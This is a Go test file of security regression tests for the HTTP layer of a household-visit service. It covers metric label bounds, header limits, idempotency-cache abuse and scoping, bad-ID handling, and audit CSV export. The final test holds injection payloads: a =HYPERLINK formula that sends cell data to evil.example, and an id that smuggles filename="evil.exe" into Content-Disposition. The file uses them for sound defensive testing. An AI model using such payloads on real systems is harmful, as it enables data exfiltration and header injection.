package http

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime"
	nethttp "net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/doorstep/doorstep/identity"
	"github.com/doorstep/doorstep/internal/syncbuf"
)

// rawDo sends a request without the OpenAPI validator (for requests no
// document describes: unknown methods, oversized headers).
func (e *testEnv) rawDo(req *nethttp.Request) resp {
	e.t.Helper()
	res, err := e.ts.Client().Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		e.t.Fatal(err)
	}
	return resp{status: res.StatusCode, header: res.Header, body: b}
}

// Issue 13 item 1: /metrics was labelled with the raw HTTP method, so
// random method names grew every scrape without bound, and each request
// logged its method whole.
func TestMetricsAndLogsBoundTheMethod(t *testing.T) {
	var logs syncbuf.Buffer
	e := newEnv(t, func(d *Deps) { d.Log = slog.New(slog.NewJSONHandler(&logs, nil)) })
	long := "ZZ" + strings.Repeat("Q", 20_000)
	for i, m := range []string{"FOO", "BAR", "BAZ", long, "get"} {
		path := "/v1/households"
		if i%2 == 1 {
			path = "/no/such/route"
		}
		req, _ := nethttp.NewRequest(m, e.ts.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+e.admin)
		if r := e.rawDo(req); r.status < 400 || len(r.body) > 4096 {
			t.Fatalf("%.20s %s: %d, %d bytes", m, path, r.status, len(r.body))
		}
	}
	r := e.do("GET", "/metrics", "", nil)
	page := string(r.body)
	for _, m := range []string{"FOO", "BAR", "BAZ", "ZZQQ", `method="get"`} {
		if strings.Contains(page, m) {
			t.Errorf("/metrics carries the client's method %q", m)
		}
	}
	if !strings.Contains(page, `method="other"`) {
		t.Errorf("/metrics has no method=\"other\" series")
	}
	if l := logs.String(); strings.Contains(l, "ZZQQ") || strings.Contains(l, "FOO") {
		t.Errorf("the log carries the client's method: %.300s", l)
	}
}

// Issue 13 item 12: the server took Go's 1 MB header default, and a 900 KB
// X-Correlation-Id went into the permanent log.
func TestHeaderLimits(t *testing.T) {
	e := newEnv(t, nil)
	l, err := netListen()
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.srv.Serve(ctx, l) }()
	defer func() { stop(); <-done }()
	base := "http://" + l.Addr().String()
	req, _ := nethttp.NewRequest("GET", base+"/healthz", nil)
	req.Header.Set("X-Padding", strings.Repeat("p", 64<<10))
	if r := e.rawDo(req); r.status != nethttp.StatusRequestHeaderFieldsTooLarge {
		t.Errorf("64 KiB of headers: %d, want 431", r.status)
	}
	req, _ = nethttp.NewRequest("GET", base+"/healthz", nil)
	req.Header.Set("X-Padding", strings.Repeat("p", 8<<10))
	if r := e.rawDo(req); r.status != 200 {
		t.Errorf("8 KiB of headers: %d, want 200", r.status)
	}

	// A correlation id that is too long or not visible ASCII is refused
	// before anything is written.
	reg := map[string]any{"household_id": "corr-1", "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
	for _, bad := range []string{strings.Repeat("c", MaxCorrelationIDBytes+1), "a b", "关联"} {
		r := e.do("POST", "/v1/households", e.admin, reg, "X-Correlation-Id", bad)
		if r.status != 400 || r.problem(t).Code != "invalid_correlation_id" || r.problem(t).Field != "X-Correlation-Id" {
			t.Fatalf("correlation id %.20q: %d %s", bad, r.status, r.body)
		}
	}
	if v, err := e.store.StreamVersion(context.Background(), "household-corr-1"); err != nil || v != 0 {
		t.Fatalf("a refused command wrote: version %d, %v", v, err)
	}
	good := strings.Repeat("c", MaxCorrelationIDBytes)
	if r := e.do("POST", "/v1/households", e.admin, reg, "X-Correlation-Id", good); r.status != 201 {
		t.Fatalf("a correlation id of %d bytes: %d %s", len(good), r.status, r.body)
	}
}

// cachedBytes sums the answers the idempotency cache keeps.
func (m *idempotency) cachedBytes() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	n := 0
	for k, e := range m.m {
		n += len(k) + len(e.body)
	}
	return n
}

// Issue 13 item 2: any token could fill the idempotency cache. Error
// answers are kept for 24 h, and the unknown-field error repeated the
// field name four times: a body of one long name became an answer four
// times its size, kept under every fresh key.
func TestIdempotencyCacheCannotBeFilled(t *testing.T) {
	e := newEnv(t, nil)
	worker := e.token(identity.Principal{Name: "w", Role: identity.RoleWorker, Grids: []string{"elsewhere"}})
	name := strings.Repeat("n", 3900) // the test server takes 4 KiB bodies
	body := `{"` + name + `":1}`
	for i := range 20 {
		r := e.do("POST", "/v1/households/h1/visits", worker, body, "Idempotency-Key", fmt.Sprint("fill-", i))
		if r.status != 400 || r.problem(t).Code != "unknown_field" {
			t.Fatalf("%d %s", r.status, r.body)
		}
		if len(r.body) > 2048 {
			t.Fatalf("a %d-byte body was answered with %d bytes: the field name is echoed whole", len(body), len(r.body))
		}
	}
	if n := e.srv.idem.cachedBytes(); n > 20*2048 {
		t.Fatalf("the idempotency cache holds %d bytes after 20 small requests", n)
	}
}

func TestIdempotencyCacheMetric(t *testing.T) {
	e := newEnv(t, nil)
	reg := map[string]any{"household_id": "metric-1", "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
	if r := e.do("POST", "/v1/households", e.admin, reg, "Idempotency-Key", "metric-1"); r.status != 201 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	page := string(e.do("GET", "/metrics", "", nil).body)
	for _, m := range []string{"doorstep_http_idempotency_cache_bytes ", "doorstep_http_idempotency_cache_entries 1"} {
		if !strings.Contains(page, m) {
			t.Errorf("/metrics has no %q", m)
		}
	}
}

// Issue 13 item 8: idempotency keys were kept per token name, and a replay
// was served before the scope check, so a worker token named "admin"
// replayed the admin's answer for a household outside its grid, or burned
// the admin's keys.
func TestIdempotencyKeysArePerTokenAndScoped(t *testing.T) {
	e := newEnv(t, nil)
	impostor := e.token(identity.Principal{Name: "admin", Role: identity.RoleWorker, Grids: []string{"elsewhere"}})
	reg := map[string]any{"household_id": "idem-h1", "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
	if r := e.do("POST", "/v1/households", e.admin, reg, "Idempotency-Key", "k1"); r.status != 201 {
		t.Fatalf("register: %d %s", r.status, r.body)
	}
	r := e.do("POST", "/v1/households", impostor, reg, "Idempotency-Key", "k1")
	if r.status != 403 || r.header.Get("Idempotent-Replayed") != "" {
		t.Fatalf("a worker named admin, out of scope, resending the admin's key: %d %s (replayed %q), want 403",
			r.status, r.body, r.header.Get("Idempotent-Replayed"))
	}

	// The impostor's key does not burn the admin's.
	own := map[string]any{"household_id": "idem-h2", "address": "2号", "community": "c", "grid": "elsewhere", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
	if r := e.do("POST", "/v1/households", impostor, own, "Idempotency-Key", "k2"); r.status != 201 {
		t.Fatalf("impostor in its own grid: %d %s", r.status, r.body)
	}
	reg["household_id"] = "idem-h3"
	if r := e.do("POST", "/v1/households", e.admin, reg, "Idempotency-Key", "k2"); r.status != 201 {
		t.Fatalf("the admin's key k2 was taken by another token of the same name: %d %s", r.status, r.body)
	}

	// Scope is checked before a replay: once the household has moved out
	// of a worker's grid, the worker's retry is refused.
	worker := e.token(identity.Principal{Name: "w", Role: identity.RoleWorker, Grids: []string{"g"}})
	visit := map[string]any{"team": []string{"w"}, "occurred_at": "2026-03-01T09:00:00+08:00", "mode": "home", "outcome": "completed"}
	if r := e.do("POST", "/v1/households/idem-h1/visits", worker, visit, "Idempotency-Key", "v1"); r.status != 200 {
		t.Fatalf("visit: %d %s", r.status, r.body)
	}
	move := map[string]any{"address": "3号", "community": "c", "grid": "g2", "reason": "moved"}
	if r := e.do("POST", "/v1/households/idem-h1/relocate", e.admin, move); r.status != 200 {
		t.Fatalf("relocate: %d %s", r.status, r.body)
	}
	if r := e.do("POST", "/v1/households/idem-h1/visits", worker, visit, "Idempotency-Key", "v1"); r.status != 404 || r.header.Get("Idempotent-Replayed") != "" {
		t.Fatalf("a replay for a household now outside the worker's grid: %d %s, want 404 as if it did not exist (decision 0088)", r.status, r.body)
	}
}

// Issue 13 item 6: bad ids in paths and bodies answered 500 and were
// logged whole at ERROR.
func TestBadIDsAre400AndNotLogged(t *testing.T) {
	var logs syncbuf.Buffer
	e := newEnv(t, func(d *Deps) { d.Log = slog.New(slog.NewJSONHandler(&logs, nil)) })
	huge := strings.Repeat("x", 3000) // within the test server's 4 KiB body limit
	bad := []string{strings.Repeat("a", 129), huge, "a b", "a\tb", "a\x00b", "a\u202Eb", "a\xffb", "a\u200Bb"}
	check := func(what string, r resp, field string) {
		t.Helper()
		if r.status != 400 {
			t.Fatalf("%s: %d %.300s", what, r.status, r.body)
		}
		p := r.problem(t)
		if p.Code != "invalid_id" || p.Field != field || p.MessageZH == "" || !strings.Contains(p.MessageEN, "128 bytes") {
			t.Fatalf("%s: %+v", what, p)
		}
		if len(r.body) > 2048 {
			t.Fatalf("%s: a %d-byte answer", what, len(r.body))
		}
	}
	for _, id := range bad {
		path := "/v1/households/" + url.PathEscape(id)
		req, _ := nethttp.NewRequest("GET", e.ts.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+e.admin)
		check(fmt.Sprintf("GET %.20q", id), e.rawDo(req), "household_id")
		req, _ = nethttp.NewRequest("POST", e.ts.URL+"/v1/problems/"+url.PathEscape(id)+"/progress", strings.NewReader(`{"note":"n","follow_up":"phone"}`))
		req.Header.Set("Authorization", "Bearer "+e.admin)
		check(fmt.Sprintf("POST progress %.20q", id), e.rawDo(req), "problem_id")
		body, _ := json.Marshal(map[string]any{"household_id": id, "description": "d", "category": "service", "handling_class": "immediate", "colour": "green", "urgency": "ordinary"})
		req, _ = nethttp.NewRequest("POST", e.ts.URL+"/v1/problems", strings.NewReader(string(body)))
		req.Header.Set("Authorization", "Bearer "+e.admin)
		check(fmt.Sprintf("report for %.20q", id), e.rawDo(req), "household_id")
	}
	for _, id := range []string{".", "..", "a/b", "a\u202Eb"} {
		reg := map[string]any{"household_id": id, "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
		check(fmt.Sprintf("register %q", id), e.do("POST", "/v1/households", e.admin, reg), "household_id")
	}
	visit := map[string]any{"team": []string{"w"}, "occurred_at": "2026-03-01T09:00:00+08:00", "mode": "home", "outcome": "completed", "problem_ids": []string{"p1", "a b"}}
	check("problem_ids", e.do("POST", "/v1/households/h1/visits", e.admin, visit), "problem_ids")
	l := logs.String()
	if strings.Contains(l, `"level":"ERROR"`) || strings.Contains(l, "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx") {
		t.Fatalf("bad ids were logged as errors or whole: %.500s", l)
	}
}

// Issue 13 item 9: a reason of =HYPERLINK(...) went unescaped into the
// audit CSV, and a household id with `";filename="evil.exe` broke out of
// Content-Disposition.
func TestAuditExportInjection(t *testing.T) {
	e := newEnv(t, nil)
	id := `x";filename="evil.exe`
	reg := map[string]any{"household_id": id, "address": "1号", "community": "c", "grid": "g", "responsible_worker": "w", "class": "ordinary", "risk": "green"}
	if r := e.do("POST", "/v1/households", e.admin, reg); r.status != 201 {
		t.Fatalf("register: %d %s", r.status, r.body)
	}
	formula := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	var res CommandResult
	r := e.do("POST", "/v1/households/"+url.PathEscape(id)+"/risk", e.admin, map[string]any{"to": "red", "reason": formula})
	if r.status != 200 {
		t.Fatalf("risk: %d %s", r.status, r.body)
	}
	r.decode(t, &res)
	r = e.do("GET", "/v1/households/"+url.PathEscape(id)+"/audit?format=csv&wait_for="+res.Position, e.admin, nil)
	if r.status != 200 {
		t.Fatalf("audit: %d %s", r.status, r.body)
	}
	cd := r.header.Values("Content-Disposition")
	typ, params, err := mime.ParseMediaType(strings.Join(cd, ", "))
	if err != nil || typ != "attachment" || len(params) != 1 || params["filename"] != "household-"+id+"-audit.csv" {
		t.Fatalf("Content-Disposition %q: %s %v %v", cd, typ, params, err)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a CSV cell starts with %q: %q", cell[0], cell)
			}
			if cell == "'"+formula {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("the reason is not in the CSV as '%s: %q", formula, rows)
	}
}
